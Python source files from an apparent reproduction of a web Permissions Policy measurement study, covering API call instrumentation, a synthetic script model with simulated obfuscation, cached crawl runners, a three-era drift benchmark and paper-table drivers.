        observable = self.runtime.surface.observable_endpoints()

        def wrap(spec: ApiSpec,
                 original: Callable[..., Any]) -> Callable[..., Any] | None:
            if spec.name not in observable:
                return None
            return self._make_wrapper(spec, original)

        self.runtime.install_wrapper(wrap)

    def _make_wrapper(self, spec: ApiSpec,
                      original: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(*args: str) -> Any:
            outcome = original(*args)
            self.records.append(InvocationRecord(
                api=spec.name,
                kind=spec.kind,
                permissions=spec.permissions_for(tuple(args)),
                args=tuple(args),
                stacktrace=self._capture_stack(),
                frame_id=self.frame_id,
                allowed=bool(outcome.get("allowed", True)),
            ))
            return outcome
        return wrapper

    def _capture_stack(self) -> tuple[str, ...]:
        """``new Error().stack`` equivalent: script URLs innermost-last;
        inline/dynamic scripts contribute an empty entry."""
        return tuple((script.url or "") for script in self._script_stack)

    # -- script execution --------------------------------------------------------

    def execute(self, script: Script, *, interact: bool = False,
                unlocked_gates: frozenset[str] = frozenset({"click"})) -> int:
        """Run a script through the instrumented surface.

        Args:
            script: The script to run.
            interact: Whether user interaction is simulated; gated
                operations fire only if their gate is in ``unlocked_gates``.
            unlocked_gates: Which interaction gates the simulated user can
                open (a crawler click opens ``click``; ``login`` or
                ``subscription`` stay shut unless explicitly granted —
                Appendix A.3's inaccessible functionality).

        Returns:
            Number of operations executed.
        """
        executed = 0
        self._script_stack.append(script)
        try:
            for op in script.operations:
                if op.requires_interaction:
                    if not interact or op.interaction_gate not in unlocked_gates:
                        continue
                if self.runtime.surface.maybe(op.api) is None:
                    continue
                self.runtime.call(op.api, *op.args)
                executed += 1
        finally:
            self._script_stack.pop()
        return executed
