"""Script model: source text plus executable operations.

A real crawl sees two faces of every script: the *source text* that static
analysis string-matches (paper Section 3.1.1), and the *behaviour* when the
JavaScript engine runs it, which dynamic instrumentation records.  Our
script model keeps the two faces explicitly separate so the paper's
static/dynamic asymmetries are reproducible:

* **Obfuscated scripts** have source text without matchable API strings but
  still perform their operations — dynamic analysis catches them, static
  misses them (paper Section 4.1.3 and [53]).
* **Interaction-gated operations** only run when the crawler interacts
  (clicks) — static sees the source strings, a no-interaction dynamic crawl
  does not observe the call (Appendix A.3).
* **Dead code** contains API strings that never execute under any
  interaction — static over-reports them (Table 12 discussion).
"""

from __future__ import annotations

import zlib
from dataclasses import dataclass, field, replace
from typing import Iterable

from repro.policy.origin import Origin, site_of


@dataclass(frozen=True)
class ApiCall:
    """One operation a script performs against the Web API surface.

    Attributes:
        api: Fully qualified API name (e.g.
            ``"navigator.permissions.query"`` or ``"getUserMedia"``).
        args: Call arguments; for status-check APIs the first argument names
            the permission being checked (paper Section 3.1.1: "analyzing
            these arguments enables us to identify which specific
            permissions are being checked").
        requires_interaction: The call only happens after a user gesture
            (click, form fill); a no-interaction crawl never observes it.
        interaction_gate: What unlocks the call when interaction is
            simulated — ``"click"`` (any interaction), ``"navigation"``
            (visiting another path), ``"login"`` / ``"subscription"``
            (never unlocked by the Appendix A.3 experiments).
    """

    api: str
    args: tuple[str, ...] = ()
    requires_interaction: bool = False
    interaction_gate: str = "click"


@dataclass(frozen=True)
class Script:
    """A script as delivered to a document.

    Attributes:
        url: Source URL for external scripts, ``None`` for inline or
            dynamically created scripts (which the paper classifies as
            first-party).
        source: The text static analysis scans.
        operations: The calls executed when the script runs.
        dead_code_apis: API name strings present in ``source`` but never
            executed (the static-analysis over-report).
        obfuscated: Whether matchable API strings were stripped from
            ``source`` while operations remain intact.
        dynamic: Whether the script was created at runtime
            (``document.createElement('script')`` …); such scripts are still
            captured by both analyses (paper Section 3.1.1).
    """

    url: str | None
    source: str
    operations: tuple[ApiCall, ...] = ()
    dead_code_apis: tuple[str, ...] = ()
    obfuscated: bool = False
    dynamic: bool = False

    @property
    def inline(self) -> bool:
        return self.url is None

    def script_site(self) -> str:
        """The site the script was loaded from; ``""`` for inline scripts."""
        if self.url is None:
            return ""
        return site_of(self.url)

    def is_first_party_for(self, document_origin: Origin) -> bool:
        """First-party classification per the paper: a script is first-party
        when its site equals the site of the frame it runs in; inline and
        dynamically created scripts (no URL in the stack trace) count as
        first-party."""
        if self.url is None:
            return True
        return self.script_site() == document_origin.site

    def immediate_operations(self) -> tuple[ApiCall, ...]:
        """Operations that run on load, without any interaction."""
        return tuple(op for op in self.operations
                     if not op.requires_interaction)

    def gated_operations(self) -> tuple[ApiCall, ...]:
        return tuple(op for op in self.operations if op.requires_interaction)

    def with_obfuscation(self) -> "Script":
        """A copy whose source no longer contains matchable API strings."""
        return replace(self, source=_obfuscate(self.source), obfuscated=True)


def _obfuscate(source: str) -> str:
    """Strip identifier characters the way string-splitting obfuscators do
    (``window['navi'+'gator']``): the behaviour is intact but substring
    matching finds nothing."""
    out: list[str] = []
    for chunk in source.split():
        if len(chunk) > 3:
            mid = len(chunk) // 2
            out.append(f"{chunk[:mid]}'+'{chunk[mid:]}")
        else:
            out.append(chunk)
    # crc32, not hash(): the builtin is salted per process, which would
    # break the byte-identical checkpoint/resume guarantee across runs.
    token = zlib.crc32(source.encode("utf-8"))
    return "_0x" + hex(token)[2:] + "/*" + " ".join(out) + "*/"


def render_source(api_names: Iterable[str], *, padding: str = "") -> str:
    """Produce plausible script source text containing the given API names,
    for the synthetic web generator.  The exact text only matters to the
    string-matching static analysis."""
    lines = [f"(function() {{ {padding}"]
    for index, api in enumerate(api_names):
        lines.append(f"  var r{index} = {api}; if (r{index}) {{ use(r{index}); }}")
    lines.append("})();")
    return "\n".join(lines)
