"""Experiment drivers.

One function per paper table/figure (:mod:`repro.experiments.tables`), all
sharing a cached measurement run (:mod:`repro.experiments.runner`).  The
benchmark harness and the EXPERIMENTS.md generator both consume these, so
the numbers in the docs and in ``pytest benchmarks/`` always agree.
"""

from repro.experiments.drift_study import drift_study
from repro.experiments.robustness import expected_noise_floor, seed_sweep
from repro.experiments.runner import ExperimentContext, run_measurement
from repro.experiments.tables import ALL_EXPERIMENTS, ExperimentResult

__all__ = [
    "ALL_EXPERIMENTS",
    "ExperimentContext",
    "ExperimentResult",
    "drift_study",
    "expected_noise_floor",
    "run_measurement",
    "seed_sweep",
]
