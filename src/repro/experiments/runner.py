"""Shared measurement run for the experiment suite.

The paper runs one nine-day crawl and derives every table from it; we run
one calibrated synthetic crawl (default 20,000 sites — laptop-scale) and
cache it at two levels so each bench target regenerates its table without
re-crawling:

* an in-process cache, so every analysis in one session shares the same
  :class:`ExperimentContext` instance;
* a persistent on-disk cache (a :class:`~repro.crawler.storage.CrawlStore`
  SQLite file plus a JSON manifest), so *subsequent* pytest/bench sessions
  load the crawl in seconds instead of recomputing it.

The disk cache is keyed by ``(site_count, seed, schema_version,
code_fingerprint)``: the fingerprint hashes the source of every package
that influences crawl bytes, so editing the generator, crawler, policy
engine, registry or browser invalidates stale caches automatically.

Environment knobs:

* ``REPRO_SITES`` — measurement scale (smoke runs vs tighter repros);
* ``REPRO_CACHE_DIR`` — cache location (default
  ``~/.cache/permissions-odyssey``);
* ``REPRO_NO_CACHE`` — any non-empty value disables the disk cache;
* ``REPRO_BACKEND`` — default crawl backend (serial/thread/process/auto).
"""

from __future__ import annotations

import hashlib
import json
import logging
import os
import sqlite3
from dataclasses import asdict, dataclass
from functools import cached_property
from pathlib import Path

from repro.analysis.delegation import DelegationAnalysis
from repro.analysis.headers import HeaderAnalysis
from repro.analysis.index import DatasetIndex
from repro.analysis.overpermission import OverPermissionAnalysis
from repro.analysis.summary import MeasurementSummary, summarize
from repro.analysis.usage import UsageAnalysis
from repro.crawler.pool import CrawlDataset, CrawlerPool
from repro.crawler.storage import SCHEMA_VERSION, CrawlStore
from repro.obs import metrics as _metrics
from repro.obs.tracing import TRACER
from repro.synthweb.distributions import GeneratorRates
from repro.synthweb.generator import SyntheticWeb

logger = logging.getLogger(__name__)

#: Default measurement scale; ~1/50 of the paper's 1M with identical rates.
DEFAULT_SITE_COUNT = 20_000
DEFAULT_SEED = 2024

#: Packages whose source determines the crawl's dataset bytes.  Analyses
#: are deliberately absent: they postprocess a dataset, so editing them
#: must not invalidate cached crawls.
_FINGERPRINTED_PACKAGES = ("browser", "crawler", "policy", "registry",
                           "synthweb")


@dataclass
class ExperimentContext:
    """One measurement run plus lazily computed analyses."""

    web: SyntheticWeb
    dataset: CrawlDataset

    @cached_property
    def index(self) -> DatasetIndex:
        """One shared index; every analysis below reads it, none re-parses."""
        return DatasetIndex(self.dataset)

    @cached_property
    def usage(self) -> UsageAnalysis:
        return UsageAnalysis(self.index)

    @cached_property
    def delegation(self) -> DelegationAnalysis:
        return DelegationAnalysis(self.index)

    @cached_property
    def headers(self) -> HeaderAnalysis:
        return HeaderAnalysis(self.index)

    @cached_property
    def overpermission(self) -> OverPermissionAnalysis:
        return OverPermissionAnalysis(self.index)

    @cached_property
    def summary(self) -> MeasurementSummary:
        return summarize(self.dataset, index=self.index)

    @property
    def scale_factor(self) -> float:
        """Multiplier mapping our counts onto the paper's 1M-site scale."""
        return 1_000_000 / self.web.site_count


_CACHE: dict[tuple[int, int, int, str], ExperimentContext] = {}
_FINGERPRINT: str | None = None


def configured_site_count() -> int:
    value = os.environ.get("REPRO_SITES")
    if value:
        try:
            count = int(value)
        except ValueError:
            raise ValueError(
                f"REPRO_SITES must be an integer site count, got {value!r}"
            ) from None
        return max(200, count)
    return DEFAULT_SITE_COUNT


def configured_backend() -> str:
    return os.environ.get("REPRO_BACKEND", "auto")


def cache_enabled() -> bool:
    return not os.environ.get("REPRO_NO_CACHE")


def cache_directory() -> Path:
    value = os.environ.get("REPRO_CACHE_DIR")
    if value:
        return Path(value)
    return Path.home() / ".cache" / "permissions-odyssey"


def code_fingerprint() -> str:
    """Hash of every source file that shapes crawl bytes (memoized)."""
    global _FINGERPRINT
    if _FINGERPRINT is None:
        package_root = Path(__file__).resolve().parent.parent
        digest = hashlib.sha256()
        for package in _FINGERPRINTED_PACKAGES:
            for source in sorted((package_root / package).glob("**/*.py")):
                digest.update(source.relative_to(package_root)
                              .as_posix().encode())
                digest.update(source.read_bytes())
        _FINGERPRINT = digest.hexdigest()[:16]
    return _FINGERPRINT


def _rates_variant(rates: GeneratorRates) -> str:
    """A short, stable tag for non-default generator rates — used to name
    the cache entry when the caller does not pass an explicit variant."""
    payload = json.dumps(asdict(rates), sort_keys=True).encode()
    return "rates-" + hashlib.sha256(payload).hexdigest()[:12]


def _manifest(count: int, seed: int, shards: int = 1,
              rates: GeneratorRates | None = None) -> dict:
    # The shard layout is part of the cache key: sharded and unsharded
    # runs are byte-identical by contract, but a cache entry must still
    # record exactly how it was produced so a layout-specific regression
    # can never masquerade as a clean cache hit for the other layout.
    manifest = {"site_count": count, "seed": seed,
                "shards": shards,
                "schema_version": SCHEMA_VERSION,
                "code_fingerprint": code_fingerprint()}
    if rates is not None:
        # Non-default generator rates (era measurements) are part of the
        # identity: two variants with colliding names must never alias.
        manifest["rates"] = asdict(rates)
    return manifest


def _cache_paths(count: int, seed: int,
                 variant: str = "") -> tuple[Path, Path]:
    suffix = f"-{variant}" if variant else ""
    base = cache_directory() / f"measurement-{count}-{seed}{suffix}"
    return base.with_suffix(".json"), base.with_suffix(".sqlite")


def _load_cached(count: int, seed: int, shards: int = 1,
                 rates: GeneratorRates | None = None,
                 variant: str = "") -> CrawlDataset | None:
    """The cached dataset, or ``None`` on any miss or mismatch."""
    manifest_path, db_path = _cache_paths(count, seed, variant)
    try:
        manifest = json.loads(manifest_path.read_text())
    except (OSError, ValueError):
        return None
    if manifest != _manifest(count, seed, shards, rates) \
            or not db_path.exists():
        return None
    try:
        with CrawlStore(db_path) as store:
            dataset = store.load_dataset()
    except Exception:
        return None
    if len(dataset.visits) != count:
        return None
    return dataset


def _store_cached(count: int, seed: int, dataset: CrawlDataset,
                  shards: int = 1,
                  rates: GeneratorRates | None = None,
                  variant: str = "") -> None:
    """Best-effort write; the manifest lands last as completeness marker.

    Any filesystem *or* SQLite failure is swallowed (the measurement run
    must not die because the cache is unwritable — e.g. a full disk fails
    inside sqlite3 with ``sqlite3.OperationalError``, not ``OSError``); a
    half-written manifest tmp file is removed so nothing stale lingers.
    """
    manifest_path, db_path = _cache_paths(count, seed, variant)
    tmp = manifest_path.with_suffix(".json.tmp")
    try:
        db_path.parent.mkdir(parents=True, exist_ok=True)
        for stale in (manifest_path, db_path,
                      db_path.with_name(db_path.name + "-wal"),
                      db_path.with_name(db_path.name + "-shm")):
            stale.unlink(missing_ok=True)
        with CrawlStore(db_path) as store:
            store.save_dataset(dataset)
        tmp.write_text(json.dumps(_manifest(count, seed, shards, rates)))
        tmp.replace(manifest_path)
    except (OSError, sqlite3.Error) as exc:
        logger.warning("measurement cache write failed, continuing without "
                       "cache: %s", exc)
        if _metrics.COUNTING:
            _metrics.REGISTRY.counter("measurement_cache.store_failures").inc()
        try:
            tmp.unlink(missing_ok=True)
        except OSError:
            pass


def run_measurement(site_count: int | None = None, *,
                    seed: int = DEFAULT_SEED,
                    workers: int = 4,
                    backend: str | None = None,
                    use_cache: bool | None = None,
                    shards: int | None = None,
                    rates: GeneratorRates | None = None,
                    variant: str | None = None) -> ExperimentContext:
    """Run (or reuse) the measurement crawl at the given scale.

    Lookup order: in-process cache, then the disk cache (when enabled and
    its manifest matches), then a fresh crawl whose result is written back
    to disk for the next session.  ``use_cache=False`` bypasses *both*
    cache levels and always crawls fresh (the result still lands in the
    in-process cache for later cached callers).

    Note: all backends produce byte-identical datasets, so ``backend``
    only selects the execution strategy of a *fresh* crawl — it cannot
    change an already-cached result, and a cache hit ignores it.
    ``shards`` likewise only shapes a fresh crawl (sharded runs are
    byte-identical to unsharded by contract), but the layout is recorded
    in the disk-cache manifest, so entries produced under different shard
    layouts never collide.

    ``rates`` runs the crawl over a non-default generator configuration
    (era measurements — :func:`repro.synthweb.eras.era_context`); such
    runs get their own cache entries, named by ``variant`` (default: a
    hash of the rates) and guarded by the rates recorded in the manifest,
    so they can never alias the default measurement or each other.
    """
    count = site_count if site_count is not None else configured_site_count()
    cached = use_cache if use_cache is not None else cache_enabled()
    layout = shards if shards is not None else 1
    if layout < 1:
        raise ValueError("shards must be >= 1")
    if variant is not None:
        tag = variant
        if not tag or not all(ch.isalnum() or ch in "-_" for ch in tag):
            raise ValueError(
                f"variant must be a non-empty [-_a-zA-Z0-9] tag, got {tag!r}")
    else:
        tag = _rates_variant(rates) if rates is not None else ""
    key = (count, seed, layout, tag)
    if cached and key in _CACHE:
        if _metrics.COUNTING:
            _metrics.REGISTRY.counter("measurement_cache.memory_hits").inc()
        return _CACHE[key]
    with TRACER.span("experiment.run_measurement", sites=count, seed=seed,
                     variant=tag or "default"):
        web = SyntheticWeb(count, seed=seed, rates=rates)
        dataset = (_load_cached(count, seed, layout, rates, tag)
                   if cached else None)
        if _metrics.COUNTING and cached:
            name = ("measurement_cache.disk_hits" if dataset is not None
                    else "measurement_cache.disk_misses")
            _metrics.REGISTRY.counter(name).inc()
        if dataset is None:
            chosen = backend if backend is not None else configured_backend()
            logger.info("measurement crawl: %d sites, seed %d, backend %s, "
                        "%d shard(s)%s", count, seed, chosen, layout,
                        f", variant {tag}" if tag else "")
            pool = CrawlerPool(web, workers=workers, backend=chosen)
            if layout > 1:
                dataset = _sharded_crawl(pool, layout)
            else:
                dataset = pool.run()
            if cached:
                _store_cached(count, seed, dataset, layout, rates, tag)
        else:
            logger.info("measurement crawl: %d sites, seed %d%s — loaded "
                        "from disk cache", count, seed,
                        f", variant {tag}" if tag else "")
        ctx = ExperimentContext(web=web, dataset=dataset)
    _CACHE[key] = ctx
    return ctx


def _sharded_crawl(pool: CrawlerPool, shards: int) -> CrawlDataset:
    """Run the pool sharded through a scratch store (sharded runs need a
    store to merge into; the scratch file is deleted afterwards)."""
    import tempfile

    with tempfile.TemporaryDirectory(prefix="repro-sharded-") as scratch:
        with CrawlStore(Path(scratch) / "crawl.sqlite") as store:
            return pool.run(store=store, shards=shards)
