"""Shared measurement run for the experiment suite.

The paper runs one nine-day crawl and derives every table from it; we run
one calibrated synthetic crawl (default 20,000 sites — laptop-scale) and
cache the analyses so each bench target regenerates its table without
re-crawling.  The scale is configurable through the environment variable
``REPRO_SITES`` for quicker smoke runs or bigger, tighter reproductions.
"""

from __future__ import annotations

import os
from dataclasses import dataclass
from functools import cached_property

from repro.analysis.delegation import DelegationAnalysis
from repro.analysis.headers import HeaderAnalysis
from repro.analysis.overpermission import OverPermissionAnalysis
from repro.analysis.summary import MeasurementSummary, summarize
from repro.analysis.usage import UsageAnalysis
from repro.crawler.pool import CrawlDataset, CrawlerPool
from repro.synthweb.generator import SyntheticWeb

#: Default measurement scale; ~1/50 of the paper's 1M with identical rates.
DEFAULT_SITE_COUNT = 20_000
DEFAULT_SEED = 2024


@dataclass
class ExperimentContext:
    """One measurement run plus lazily computed analyses."""

    web: SyntheticWeb
    dataset: CrawlDataset

    @cached_property
    def usage(self) -> UsageAnalysis:
        return UsageAnalysis(self.dataset.successful())

    @cached_property
    def delegation(self) -> DelegationAnalysis:
        return DelegationAnalysis(self.dataset.successful())

    @cached_property
    def headers(self) -> HeaderAnalysis:
        return HeaderAnalysis(self.dataset.successful())

    @cached_property
    def overpermission(self) -> OverPermissionAnalysis:
        return OverPermissionAnalysis(self.dataset.successful())

    @cached_property
    def summary(self) -> MeasurementSummary:
        return summarize(self.dataset)

    @property
    def scale_factor(self) -> float:
        """Multiplier mapping our counts onto the paper's 1M-site scale."""
        return 1_000_000 / self.web.site_count


_CACHE: dict[tuple[int, int], ExperimentContext] = {}


def configured_site_count() -> int:
    value = os.environ.get("REPRO_SITES")
    if value:
        return max(200, int(value))
    return DEFAULT_SITE_COUNT


def run_measurement(site_count: int | None = None, *,
                    seed: int = DEFAULT_SEED,
                    workers: int = 4) -> ExperimentContext:
    """Run (or reuse) the measurement crawl at the given scale."""
    count = site_count if site_count is not None else configured_site_count()
    key = (count, seed)
    if key not in _CACHE:
        web = SyntheticWeb(count, seed=seed)
        dataset = CrawlerPool(web, workers=workers).run()
        _CACHE[key] = ExperimentContext(web=web, dataset=dataset)
    return _CACHE[key]
