"""The three-era drift study and the drift perf-bench harness.

:func:`drift_study` reproduces the paper's Fig. 2 transition *from stored
crawls alone*: it crawls (or cache-loads) the 2020 / 2022 / 2024 era webs
through :func:`repro.synthweb.eras.era_context`, persists each to a
:class:`~repro.crawler.storage.CrawlStore`, folds the stores into a
:class:`~repro.analysis.drift.DriftTimeline` and checks the transition
direction — Feature-Policy falls while Permissions-Policy rises.

:func:`collect_drift_bench` is the ``benchmarks/bench_perf_drift.py``
backend (BENCH_drift.json).  Phases that measure memory run in spawn
subprocesses via the scale harness so peak RSS is attributable, and every
gate lands in ``gates`` (or ``gates_skipped`` with a reason — none are
currently skippable, but the protocol matches BENCH_scale.json).

Gates:

* ``self_diff_empty`` — diffing a store against itself yields no
  added/removed/changed sites;
* ``diff_rss_within_bound`` / ``diff_time_within_bound`` — diffing two
  era stores streams in the scale harness's RSS envelope
  (:data:`~repro.experiments.scale.RSS_BOUND_BYTES`) and bounded time;
* ``html_deterministic`` — two independent profile+render passes in two
  separate subprocesses produce byte-identical HTML (SHA-256);
* ``fig2_pp_rises`` / ``fig2_fp_falls`` — the stored-crawl timeline
  reproduces the paper's transition direction.

``REPRO_DRIFT_SITES`` scales the bench (default 10,000; CI smoke uses a
smaller store).
"""

from __future__ import annotations

import hashlib
import os
import tempfile
import time
from pathlib import Path

from repro.synthweb.eras import Era, era_context

#: Era sequence for the study, oldest first (the Fig. 2 timeline).
STUDY_ERAS = (Era.Y2020, Era.Y2022, Era.Y2024)

DEFAULT_STUDY_SITES = 2_000
DEFAULT_BENCH_SITES = 10_000

#: Wall-time bound for the cross-era diff at the bench scale — generous
#: (the 10k diff takes seconds) but catches an accidental return to
#: materialize-then-compare behaviour, which also blows the RSS gate.
DIFF_TIME_BOUND_SECONDS = 300.0


def configured_drift_sites() -> int:
    value = os.environ.get("REPRO_DRIFT_SITES")
    if value:
        try:
            count = int(value)
        except ValueError:
            raise ValueError(
                f"REPRO_DRIFT_SITES must be an integer site count, "
                f"got {value!r}") from None
        return max(200, count)
    return DEFAULT_BENCH_SITES


def build_era_store(era: Era, site_count: int, directory: "str | Path", *,
                    seed: int = 2024, workers: int = 4,
                    use_cache: "bool | None" = None) -> Path:
    """Crawl (or cache-load) one era and persist it as a crawl store.

    Idempotent per ``(era, site_count, seed)``: an existing store file is
    reused — era crawls are deterministic, so the bytes could only be
    identical anyway."""
    from repro.crawler.storage import CrawlStore

    path = Path(directory) / f"era-{era.value}-{site_count}-{seed}.sqlite"
    if path.exists():
        return path
    ctx = era_context(era, site_count, seed=seed, workers=workers,
                      use_cache=use_cache)
    path.parent.mkdir(parents=True, exist_ok=True)
    with CrawlStore(path) as store:
        store.save_dataset(ctx.dataset)
    return path


def build_era_stores(site_count: int, directory: "str | Path", *,
                     seed: int = 2024, workers: int = 4,
                     use_cache: "bool | None" = None) -> "list[Path]":
    return [build_era_store(era, site_count, directory, seed=seed,
                            workers=workers, use_cache=use_cache)
            for era in STUDY_ERAS]


def drift_study(site_count: int = DEFAULT_STUDY_SITES, *, seed: int = 2024,
                workers: int = 4, directory: "str | Path | None" = None,
                use_cache: "bool | None" = None) -> dict:
    """Crawl the three eras into stores and fold them into the report.

    Everything after the store-building step works from the stores alone
    (the acceptance criterion): the timeline, the 2020→2024 diff, the
    rendered text and the HTML hash all come from streamed
    ``iter_visits()`` passes."""
    from repro.analysis.drift import build_timeline, diff_stores
    from repro.analysis.drift_report import (render_timeline_html,
                                             render_timeline_text)

    scratch = None
    if directory is None:
        scratch = tempfile.TemporaryDirectory(prefix="repro-drift-")
        directory = scratch.name
    try:
        paths = build_era_stores(site_count, directory, seed=seed,
                                 workers=workers, use_cache=use_cache)
        labels = tuple(era.value for era in STUDY_ERAS)
        timeline = build_timeline(paths, labels=labels)
        diff = diff_stores(paths[0], paths[-1],
                           labels=(labels[0], labels[-1]))
        html_text = render_timeline_html(timeline)
        pp = timeline.series_for("pp_top_level_share").values
        fp = timeline.series_for("fp_top_level_share").values
        return {
            "site_count": site_count,
            "seed": seed,
            "labels": list(labels),
            "store_paths": [str(path) for path in paths],
            "pp_top_level_share": list(pp),
            "fp_top_level_share": list(fp),
            "fig2_pp_rises": pp[-1] > pp[0],
            "fig2_fp_falls": fp[-1] < fp[0],
            "diff_2020_2024": {
                "added": len(diff.added),
                "removed": len(diff.removed),
                "changed": len(diff.changed),
                "unchanged": diff.unchanged_sites,
            },
            "timeline": timeline.to_json(),
            "rendered_text": render_timeline_text(timeline),
            "html": html_text,
            "html_sha256": hashlib.sha256(
                html_text.encode("utf-8")).hexdigest(),
        }
    finally:
        if scratch is not None:
            scratch.cleanup()


# ---------------------------------------------------------------------------
# Bench phase workers — module-level (picklable for the spawn harness),
# imports inside so the subprocess pays them within its own RSS budget.


def _diff_worker(params: dict) -> dict:
    from repro.analysis.drift import diff_stores
    from repro.experiments.scale import _peak_rss_bytes

    start = time.perf_counter()
    diff = diff_stores(params["before"], params["after"],
                       labels=tuple(params["labels"]))
    seconds = time.perf_counter() - start
    return {
        "seconds": seconds,
        "added": len(diff.added),
        "removed": len(diff.removed),
        "changed": len(diff.changed),
        "unchanged": diff.unchanged_sites,
        "is_empty": diff.is_empty,
        "pp_delta": next(delta.absolute for delta in diff.deltas
                         if delta.metric == "pp_top_level_share"),
        "peak_rss_bytes": _peak_rss_bytes(),
    }


def _render_worker(params: dict) -> dict:
    from repro.analysis.drift import build_timeline
    from repro.analysis.drift_report import render_timeline_html
    from repro.experiments.scale import _peak_rss_bytes

    timeline = build_timeline(params["stores"],
                              labels=tuple(params["labels"]))
    html_text = render_timeline_html(timeline)
    return {
        "sha256": hashlib.sha256(html_text.encode("utf-8")).hexdigest(),
        "bytes": len(html_text.encode("utf-8")),
        "pp_top_level_share":
            list(timeline.series_for("pp_top_level_share").values),
        "fp_top_level_share":
            list(timeline.series_for("fp_top_level_share").values),
        "peak_rss_bytes": _peak_rss_bytes(),
    }


def check_drift_gates(report: dict) -> "tuple[dict, list[dict]]":
    """Evaluate every drift gate; none are runner-dependent today, so the
    skip list stays empty — kept for protocol parity with the scale
    bench (every gate must be a recorded boolean or a recorded skip)."""
    from repro.experiments.scale import RSS_BOUND_BYTES

    pp = report["render_first"]["pp_top_level_share"]
    fp = report["render_first"]["fp_top_level_share"]
    gates = {
        "self_diff_empty": report["self_diff"]["is_empty"],
        "diff_rss_within_bound":
            report["cross_diff"]["peak_rss_bytes"] < RSS_BOUND_BYTES,
        "diff_time_within_bound":
            report["cross_diff"]["seconds"] < DIFF_TIME_BOUND_SECONDS,
        "html_deterministic":
            report["render_first"]["sha256"]
            == report["render_second"]["sha256"],
        "fig2_pp_rises": pp[-1] > pp[0],
        "fig2_fp_falls": fp[-1] < fp[0],
    }
    gates_skipped: "list[dict]" = []
    return gates, gates_skipped


def collect_drift_bench(site_count: "int | None" = None, *,
                        seed: int = 2024, workers: int = 4) -> dict:
    """The BENCH_drift.json document.

    Store building happens in the parent (it goes through the measurement
    cache and is not what this bench measures); every measured phase —
    self-diff, cross-era diff, the two renders — runs in its own spawn
    subprocess so ``ru_maxrss`` starts from a clean interpreter."""
    from repro.experiments.scale import RSS_BOUND_BYTES, _run_phase

    count = site_count if site_count is not None else \
        configured_drift_sites()
    with tempfile.TemporaryDirectory(prefix="repro-drift-bench-") as scratch:
        paths = build_era_stores(count, scratch, seed=seed, workers=workers)
        labels = [era.value for era in STUDY_ERAS]
        store_args = [str(path) for path in paths]
        self_diff = _run_phase(_diff_worker, {
            "before": store_args[-1], "after": store_args[-1],
            "labels": (labels[-1], labels[-1])})
        cross_diff = _run_phase(_diff_worker, {
            "before": store_args[0], "after": store_args[-1],
            "labels": (labels[0], labels[-1])})
        render_first = _run_phase(_render_worker, {
            "stores": store_args, "labels": labels})
        render_second = _run_phase(_render_worker, {
            "stores": store_args, "labels": labels})
    report = {
        "site_count": count,
        "seed": seed,
        "eras": labels,
        "self_diff": self_diff,
        "cross_diff": cross_diff,
        "render_first": render_first,
        "render_second": render_second,
        "rss_bound_bytes": RSS_BOUND_BYTES,
        "time_bound_seconds": DIFF_TIME_BOUND_SECONDS,
    }
    gates, gates_skipped = check_drift_gates(report)
    report["gates"] = gates
    report["gates_skipped"] = gates_skipped
    return report


def main(argv: "list[str] | None" = None) -> int:
    """CI entry point: build the era stores, render the fused report,
    and fail unless the Fig. 2 transition direction reproduces."""
    import argparse
    import json

    parser = argparse.ArgumentParser(
        description="three-era drift study (Fig. 2 from stored crawls)")
    parser.add_argument("--sites", type=int, default=DEFAULT_STUDY_SITES)
    parser.add_argument("--seed", type=int, default=2024)
    parser.add_argument("--workers", type=int, default=4)
    parser.add_argument("--directory", default=None,
                        help="keep the era stores here (default: a "
                             "temporary directory)")
    parser.add_argument("--html", default=None, metavar="FILE",
                        help="write the fused HTML dashboard")
    parser.add_argument("--json-out", default=None, metavar="FILE",
                        help="write the study document (minus the HTML "
                             "body) as JSON")
    args = parser.parse_args(argv)

    study = drift_study(args.sites, seed=args.seed, workers=args.workers,
                        directory=args.directory)
    if args.html:
        with open(args.html, "w", encoding="utf-8") as handle:
            handle.write(study["html"])
        print(f"wrote {args.html}")
    if args.json_out:
        payload = {key: value for key, value in study.items()
                   if key not in ("html", "rendered_text")}
        with open(args.json_out, "w", encoding="utf-8") as handle:
            json.dump(payload, handle, indent=2)
            handle.write("\n")
        print(f"wrote {args.json_out}")
    print(study["rendered_text"])
    print(f"\nfig2 direction: pp_rises={study['fig2_pp_rises']} "
          f"fp_falls={study['fig2_fp_falls']}")
    return 0 if study["fig2_pp_rises"] and study["fig2_fp_falls"] else 1


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
