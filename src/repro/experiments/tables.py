"""One driver per paper table/figure.

Every function takes an :class:`~repro.experiments.runner.ExperimentContext`
(crawl-independent experiments ignore it), regenerates the table, renders
paper-vs-measured output, and performs a *shape check*: the winners,
orderings and magnitudes the reproduction must preserve.  The benchmark
harness runs these; EXPERIMENTS.md records their output.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.analysis.report import (
    ranking_overlap,
    render_comparison,
    render_ranking,
    render_table,
)
from repro.analysis.usage import ALL_PERMISSIONS_ROW, GENERAL_ROW
from repro.browser.instrumentation import InstrumentedRuntime, WebAPIRuntime
from repro.browser.scripts import ApiCall, Script
from repro.crawler.crawler import Crawler
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.interaction import InteractiveCrawler
from repro.experiments.runner import ExperimentContext
from repro.policy.allow_attr import DelegationDirectiveKind
from repro.policy.allowlist import DirectiveClass
from repro.policy.engine import PermissionsPolicyEngine, PolicyFrame
from repro.registry.features import DEFAULT_REGISTRY
from repro.synthweb.distributions import PAPER
from repro.synthweb.generator import FailureMode
from repro.tools.header_generator import HeaderGenerator, HeaderPreset
from repro.tools.poc import LocalSchemePoC
from repro.tools.support_site import SupportSiteReport


@dataclass
class ExperimentResult:
    """Outcome of regenerating one paper table/figure."""

    experiment_id: str
    title: str
    rendered: str
    shape_ok: bool
    notes: str = ""


# ---------------------------------------------------------------------------
# Crawl-independent experiments
# ---------------------------------------------------------------------------

def table01_policy_cases(_: ExperimentContext | None = None) -> ExperimentResult:
    """Table 1: the eight camera prompt/delegation cases."""
    engine = PermissionsPolicyEngine()
    cases = [
        ("1 no header", None, None, True, False),
        ("2 no header + allow", None, "camera", True, True),
        ("3 deny", "camera=()", "camera", False, False),
        ("4 allow self", "camera=(self)", "camera", True, False),
        ("5 allow all", "camera=(*)", None, True, False),
        ("6 allow all + allow", "camera=(*)", "camera", True, True),
        ("7 allow necessary", 'camera=(self "https://iframe.com")',
         "camera", True, True),
